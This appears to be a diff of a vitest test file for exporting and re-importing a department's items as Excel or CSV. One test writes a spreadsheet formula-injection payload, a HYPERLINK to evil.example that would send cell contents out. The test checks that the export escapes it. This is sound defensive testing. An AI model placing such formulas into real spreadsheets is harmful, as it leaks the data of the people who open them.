@@ -2,9 +2,9 @@
 // row by row and column by column and writes nothing at all; a clean one becomes the right
 // drafts with their audit entries; the department's export imports back as "unchanged".
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { importItems } from '../../server/services/import/import-items'
+import { importItems } from '../../prisma/seed/import-items'
 import { exportDownload, importSheet } from '../../server/services/import/spreadsheet'
-import { readSheetFile, SheetFileError } from '../../server/services/import/sheet-file'
+import { readSheetFile, type SheetFileError } from '../../server/services/import/sheet-file'
 import { createDraft } from '../../server/services/workflow/change-requests'
 import type { AuditActor } from '../../server/services/audit'
 import { readDataFiles } from '../../scripts/lib/runtime'
@@ -53,7 +53,7 @@ beforeAll(async () => {
   policeItems = await db().powerItem.findMany({ where: { departmentId: police.id, status: { not: 'CANCELLED' } }, orderBy: { code: 'asc' } })
   civilItem = await db().powerItem.findFirstOrThrow({ where: { departmentId: civil.id } })
   const user = await db().user.create({ data: { username: 'police-editor', displayName: '公安经办人', passwordHash: 'x', role: 'EDITOR', departmentId: police.id } })
-  editor = { id: user.id, name: user.displayName, role: 'EDITOR', departmentId: police.id }
+  editor = { id: user.id, username: user.displayName, role: 'EDITOR', departmentId: police.id }
 })
 afterAll(async () => { await env.close() })
 
@@ -61,7 +61,7 @@ describe('export and import again', () => {
   it('gives "unchanged" for every row of the department, in Excel and in CSV', async () => {
     expect(policeItems.length).toBeGreaterThan(10)
     for (const format of ['xlsx', 'csv'] as const) {
-      const file = (await exportDownload(db(), police.id, format))!
+      const file = (await exportDownload(db(), police.id, format, 'power'))!
       expect(file.fileName).toBe(`区公安分局-权力事项.${format}`)
       const report = await writesNothing(() => run(file.fileName, Buffer.from(file.body)))
       expect(report.errors).toEqual([])
@@ -76,10 +76,10 @@ describe('export and import again', () => {
     const injection = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
     await db().powerItem.update({ where: { id: target.id }, data: { contact: injection, fees: '+1 收费' } })
     try {
-      const csv = (await exportDownload(db(), police.id, 'csv'))!
+      const csv = (await exportDownload(db(), police.id, 'csv', 'power'))!
       expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`)
       expect(csv.body).toContain("'+1 收费")
-      const xlsx = (await exportDownload(db(), police.id, 'xlsx'))!
+      const xlsx = (await exportDownload(db(), police.id, 'xlsx', 'power'))!
       const cells = (await readSheetFile(xlsx.fileName, xlsx.body as Buffer)).find((r) => r.cells[0]!.text === target.code)!.cells
       expect(cells[HEADER.indexOf('咨询电话')]!.text).toBe(`'${injection}`)
       for (const file of [csv, xlsx]) {
@@ -92,7 +92,7 @@ describe('export and import again', () => {
   })
 
   it('exports nothing for a department that does not exist', async () => {
-    expect(await exportDownload(db(), 999_999, 'csv')).toBeNull()
+    expect(await exportDownload(db(), 999_999, 'csv', 'power')).toBeNull()
   })
 })
 
@@ -174,7 +174,7 @@ describe('a clean file', () => {
   let exported: string
   beforeAll(async () => {
     // The unchanged row is the item exactly as exported.
-    const csv = (await exportDownload(db(), police.id, 'csv'))!.body as string
+    const csv = (await exportDownload(db(), police.id, 'csv', 'power'))!.body as string
     exported = csv.split('\r\n').find((line) => line.startsWith(unchanged().code))!
   })
 
